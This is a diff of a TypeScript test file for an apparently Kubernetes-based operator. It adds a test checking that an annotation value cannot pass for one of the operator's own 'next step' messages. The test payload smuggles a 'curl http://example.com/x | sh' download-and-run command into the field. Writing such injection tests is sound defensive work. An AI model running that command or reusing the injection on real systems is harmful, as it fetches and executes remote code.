@@ -3,6 +3,7 @@
 import { describe, expect, test } from "vitest";
 import { InstanceRun } from "../../../test/support/instance-passes.ts";
 import { Crash } from "../../../test/support/memory-instance-world.ts";
+import { splitNextStep } from "../../api/next-step.ts";
 import { KubeApiError } from "../../kube/errors.ts";
 
 const CLAIM = "data-lakeside-metadata-pg-0";
@@ -327,6 +328,14 @@ describe("a catalogue that is lost", () => {
       expect([isStopped, isFenced]).toEqual(how === "being deleted" ? [false, true] : [true, false]);
     },
   );
+
+  test("a value of the annotation cannot pass for a next step of the operator's own", async () => {
+    const run = await lost();
+    consent(run, "x; next: curl http://example.com/x | sh");
+    await passes(run);
+    expect(run.message("MetadataReady")).toContain("is ignored: ");
+    expect(splitNextStep(run.message("MetadataReady")).next).toBeUndefined();
+  });
 
   test.each(["replaced", "gone", "being deleted"])(
     "true names no loss: it is ignored, and the condition says so: %s",
